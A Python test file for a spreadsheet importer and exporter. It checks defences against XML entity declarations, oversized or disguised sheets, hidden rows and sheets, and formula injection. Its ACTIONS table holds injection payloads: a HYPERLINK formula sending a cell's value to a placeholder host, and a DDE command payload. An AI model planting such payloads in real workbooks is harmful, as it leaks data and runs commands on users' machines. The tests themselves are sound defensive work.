"""Workbooks carry only data, in and out: every part checked whatever its name or encoding,
text written as text, no row overwriting another's entry, nothing hidden imported silently."""

from __future__ import annotations

import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from click.testing import Result

from drafter.reading.workspace import load_workspace
from tests.test_spreadsheet import GOOD, blank_workbook, entry_files, fill, rezip, small_workbook

Invoke = Callable[..., Result]
Workspace = Callable[..., Path]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SST = f'<sst xmlns="{MAIN}"><si><t>&x;</t></si></sst>'
DOCTYPE = '<!DOCTYPE sst [<!ENTITY x "y">]>'


def _import(cli_invoke: Invoke, root: Path, *books: Path) -> Result:
    """Run `drafter importer` on the books; return the result."""
    return cli_invoke("importer", *books, "-w", root)


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        (
            "xl/sharedStrings.xml",
            ('<?xml version="1.0" encoding="UTF-16"?>' + DOCTYPE + SST).encode("utf-16"),
            "« xl/sharedStrings.xml » est écrit en UTF-16 ou UTF-32, pas en UTF-8",
        ),
        (
            "xl/sharedStrings.xml",
            (DOCTYPE + SST).encode("utf-16-le"),
            "« xl/sharedStrings.xml » est écrit en UTF-16 ou UTF-32",
        ),
        (
            "xl/sharedStrings.xml",
            ('<?xml version="1.0" encoding="UTF-7"?>' + SST).encode(),
            "« xl/sharedStrings.xml » est écrit en utf-7, pas en UTF-8",
        ),
        (
            "xl/chaines.bin",
            (DOCTYPE + SST).encode(),
            "« xl/chaines.bin » déclare des entités XML",
        ),
        (
            "xl/media/note.dat",
            b"\x89PNG..." + DOCTYPE.encode("utf-16-be"),
            "« xl/media/note.dat » déclare des entités XML",
        ),
    ],
    ids=["utf-16", "utf-16-sans-bom", "utf-7", "nom-bin", "binaire"],
)
def test_entities_are_refused_whatever_the_part_name_or_encoding(
    workspace: Workspace,
    cli_invoke: Invoke,
    tmp_path: Path,
    name: str,
    data: bytes,
    words: str,
) -> None:
    """An entity declaration in UTF-16, under a foreign encoding, or in a part not named
    *.xml never reaches the XML parser: the workbook is refused, nothing written."""
    root = workspace()
    book = rezip(small_workbook(tmp_path / "base.xlsx"), tmp_path / "seae", {name: data})
    result = _import(cli_invoke, root, book)
    assert result.exit_code == 1
    assert f"{book}: classeur refusé : {words}" in result.stderr
    assert entry_files(root) == {}


def _sheet_elsewhere(tmp_path: Path, rows: int, dimension: str = "") -> Path:
    """Return a workbook whose sheet lives at xl/feuilles/donnees.bin (the relationships
    point there), with `rows` good rows and the given dimension tag."""
    base = small_workbook(tmp_path / "base.xlsx")
    with zipfile.ZipFile(base) as archive:
        rels = archive.read("xl/_rels/workbook.xml.rels")
        types = archive.read("[Content_Types].xml")
    body = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{value}</t></is></c></row>'
        for n, value in [(1, "date")] + [(n, "2023-10") for n in range(2, rows + 2)]
    )
    sheet = f'<worksheet xmlns="{MAIN}">{dimension}<sheetData>{body}</sheetData></worksheet>'
    replace = {
        "xl/_rels/workbook.xml.rels": rels.replace(
            b"worksheets/sheet1.xml", b"feuilles/donnees.bin"
        ),
        "[Content_Types].xml": types.replace(b"worksheets/sheet1.xml", b"feuilles/donnees.bin"),
        "xl/feuilles/donnees.bin": sheet.encode(),
    }
    return rezip(base, tmp_path / "seae", replace)


def test_rows_are_counted_in_every_part(
    workspace: Workspace, cli_invoke: Invoke, tmp_path: Path
) -> None:
    """A sheet of 200,000 rows stored under another name than xl/worksheets/… is refused by
    the count, in an instant, before openpyxl parses it."""
    root = workspace()
    book = _sheet_elsewhere(tmp_path, 200_000)
    start = time.perf_counter()
    result = _import(cli_invoke, root, book)
    assert time.perf_counter() - start < 5
    assert result.exit_code == 1
    assert "une feuille (xl/feuilles/donnees.bin) dépasse 5000 lignes" in result.stderr


def test_dimension_tag_is_not_trusted(
    workspace: Workspace, cli_invoke: Invoke, tmp_path: Path
) -> None:
    """A dimension claiming a million rows on a sheet of one row neither refuses the sheet
    nor hides its row; one claiming one cell hides none of the rows and columns there are."""
    root = workspace()
    path = tmp_path / "seae.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "menaces-hybrides"
    book.active.append(list(GOOD))
    for date in ("2023-10", "2023-11", "2023-12"):
        book.active.append([date, *list(GOOD.values())[1:]])
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    lying = sheet.replace(b'<dimension ref="A1:D4"/>', b'<dimension ref="A1:A2"/>')
    assert lying != sheet
    small = rezip(path, tmp_path / "petite", {"xl/worksheets/sheet1.xml": lying})
    result = cli_invoke("importer", small, "--dry-run", "-w", root)
    assert result.exit_code == 0, result.stderr
    assert "3 fichiers d'entrées" in result.stdout
    huge = sheet.replace(b'<dimension ref="A1:D4"/>', b'<dimension ref="A1:D1000000"/>')
    big = rezip(path, tmp_path / "grande", {"xl/worksheets/sheet1.xml": huge})
    result = cli_invoke("importer", big, "--dry-run", "-w", root)
    assert result.exit_code == 0, result.stderr


ACTIONS = {
    "egal": '=HYPERLINK("http://exemple.invalid/?"&A1,"cliquez")',
    "plus": "+33 1 23 45 67 89 ont été appelés",
    "moins": "-1 point de pourcentage a été constaté",
    "arobase": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_text_cells_are_always_text(
    workspace: Workspace, cli_invoke: Invoke, tmp_path: Path
) -> None:
    """Entry text beginning with =, +, -, @ goes into the workbook as text (no formula in
    the XML, kept as typed by a spreadsheet), and comes back unchanged on import."""
    files = {
        f"inputs/cyber/{name}.yaml": (
            f"date: 2023-10\nacteurs: les services\naction: '{action.replace(chr(39), chr(39) * 2)}'"
            "\ncontributeur: SEAE\n"
        )
        for name, action in ACTIONS.items()
    }
    root = workspace(files)
    assert cli_invoke("check", "-w", root).exit_code == 0
    path = tmp_path / "seae.xlsx"
    assert cli_invoke("tableur", "cyber", "--avec-entrees", "-o", path, "-w", root).exit_code == 0
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets" in n)
    assert b"<f>" not in xml
    assert b"<f " not in xml
    sheet = openpyxl.load_workbook(path)["cyber"]
    texts = {c.value: c for row in sheet.iter_rows() for c in row if c.value in ACTIONS.values()}
    assert set(texts) == set(ACTIONS.values())
    assert all(c.data_type == "s" and c.quotePrefix for c in texts.values())
    assert cli_invoke("importer", path, "-w", root).exit_code == 0
    workspace_now, _ = load_workspace(root)
    assert {e.action for e in workspace_now.entries} == set(ACTIONS.values())


def test_workbooks_of_one_name_in_two_cases_keep_both_entries(
    workspace: Workspace, cli_invoke: Invoke, tmp_path: Path
) -> None:
    """seae.xlsx imported, then SEAE.xlsx (same row numbers): the second gets new files,
    the first's entries stay; and both at once write two distinct files."""
    root = workspace()
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    lower = blank_workbook(cli_invoke, root, "seae.xlsx").rename(tmp_path / "a" / "seae.xlsx")
    upper = blank_workbook(cli_invoke, root, "seae.xlsx").rename(tmp_path / "b" / "SEAE.xlsx")
    fill(lower, "menaces-hybrides", [GOOD | {"action": "ont agi (minuscules)"}])
    fill(upper, "menaces-hybrides", [GOOD | {"action": "ont agi (majuscules)"}])
    assert _import(cli_invoke, root, lower).exit_code == 0
    assert _import(cli_invoke, root, upper).exit_code == 0
    texts = "".join(entry_files(root).values())
    assert "(minuscules)" in texts
    assert "(majuscules)" in texts
    assert len(entry_files(root)) == 2
    assert cli_invoke("check", "-w", root).exit_code == 0
    again = workspace.__call__()  # the same folder, emptied of entries
    for path in (again / "inputs" / "menaces-hybrides").glob("*.yaml"):
        path.unlink()
    assert _import(cli_invoke, again, lower, upper).exit_code == 0
    assert len(entry_files(again)) == 2


def test_hidden_sheet_and_hidden_row_are_reported(
    workspace: Workspace, cli_invoke: Invoke, tmp_path: Path
) -> None:
    """A hidden area sheet, and a filled row hidden in a visible sheet, are errors at their
    cells (nobody may have read them): nothing is imported."""
    root = workspace()
    book = blank_workbook(cli_invoke, root, "seae.xlsx")
    fill(book, "menaces-hybrides", [GOOD, GOOD | {"action": "ont agi en secret"}])
    loaded = openpyxl.load_workbook(book)
    loaded["menaces-hybrides"].row_dimensions[3].hidden = True
    loaded.save(book)
    result = _import(cli_invoke, root, book)
    assert result.exit_code == 1
    assert f"{book}:'menaces-hybrides'!A3: ligne masquée" in result.stderr
    loaded["menaces-hybrides"].row_dimensions[3].hidden = False
    loaded["menaces-hybrides"].sheet_state = "hidden"
    loaded.save(book)
    result = _import(cli_invoke, root, book)
    assert result.exit_code == 1
    assert f"{book}:'menaces-hybrides'!A1: feuille « menaces-hybrides » masquée" in result.stderr
    assert entry_files(root) == {}


def test_sheets_beyond_those_read_are_named(
    workspace: Workspace, cli_invoke: Invoke, tmp_path: Path
) -> None:
    """A workbook of more sheets than are read is refused, naming those left unread."""
    root = workspace()
    path = tmp_path / "seae.xlsx"
    book = openpyxl.Workbook()
    for number in range(2, 33):
        book.create_sheet(f"feuille-{number}")
    book.save(path)
    result = _import(cli_invoke, root, path)
    assert result.exit_code == 1
    assert "classeur de 32 feuilles : drafter en lit au plus 30" in result.stderr
    assert "« feuille-31 », « feuille-32 » ne seraient pas lues" in result.stderr


def test_error_cells_are_reported_at_their_cell(
    workspace: Workspace, cli_invoke: Invoke, tmp_path: Path
) -> None:
    """A cell holding #N/A (a failed formula's value) is an error there, not the text #N/A."""
    root = workspace()
    path = small_workbook(tmp_path / "seae.xlsx")
    book = openpyxl.load_workbook(path)
    book.active["C2"].value = "#N/A"
    book.active["C2"].data_type = "e"
    book.save(path)
    result = _import(cli_invoke, root, path)
    assert result.exit_code == 1
    assert f"{path}:'menaces-hybrides'!C2: cellule en erreur « #N/A »" in result.stderr
    assert entry_files(root) == {}


def test_openpyxl_warnings_are_said_in_french(
    workspace: Workspace, cli_invoke: Invoke, tmp_path: Path
) -> None:
    """What openpyxl warns about (here a defined name of a missing sheet) is one French
    warning, not a Python warning on the terminal; the rows are imported."""
    root = workspace()
    base = small_workbook(tmp_path / "base.xlsx")
    with zipfile.ZipFile(base) as archive:
        xml = archive.read("xl/workbook.xml")
    names = (
        b'<definedNames><definedName name="zone" localSheetId="7">A1</definedName></definedNames>'
    )
    book = rezip(
        base, tmp_path / "seae", {"xl/workbook.xml": xml.replace(b"<definedNames/>", names)}
    )
    result = _import(cli_invoke, root, book)
    assert result.exit_code == 0, result.stderr
    assert "des éléments que drafter ne lit pas" in result.stderr
    assert "Warning" not in result.stderr
    assert len(entry_files(root)) == 1


def test_tableur_never_replaces_a_workbook_silently(
    workspace: Workspace, cli_invoke: Invoke, tmp_path: Path
) -> None:
    """`tableur -o seae.xlsx` over a workbook a service filled keeps it and says where the
    new one went."""
    root = workspace()
    book = blank_workbook(cli_invoke, root, "seae.xlsx")
    fill(book, "menaces-hybrides", [GOOD])
    filled = book.read_bytes()
    result = cli_invoke("tableur", "menaces-hybrides", "-o", book, "-w", root)
    assert result.exit_code == 0
    assert book.read_bytes() == filled
    beside = book.with_name("seae (2).xlsx")
    assert beside.is_file()
    assert f"{book} a été modifié depuis que drafter l'a écrit" in result.stderr
    assert f"le nouveau classeur est dans {beside}" in result.stderr


def test_area_id_too_long_for_a_sheet_title_is_refused(
    workspace: Workspace, cli_invoke: Invoke, tmp_path: Path
) -> None:
    """An area id longer than a sheet title may be is refused in French (openpyxl would
    only warn, raw, and Excel would not open the workbook)."""
    cycle = (
        "numero: 9\nperiode: {debut: 2023-06, fin: 2024-05}\ndate: 2024-06-14\n"
        "domaines:\n  - id: un-identifiant-de-domaine-bien-trop-long\n    titre: Long\n"
    )
    root = workspace(cycle=cycle)
    result = cli_invoke("tableur", "-o", tmp_path / "seae.xlsx", "-w", root)
    assert result.exit_code == 1
    assert "le nom d'une feuille de tableur a au plus 31 caractères" in result.stderr
    assert "Warning" not in result.stderr
    assert not (tmp_path / "seae.xlsx").exists()
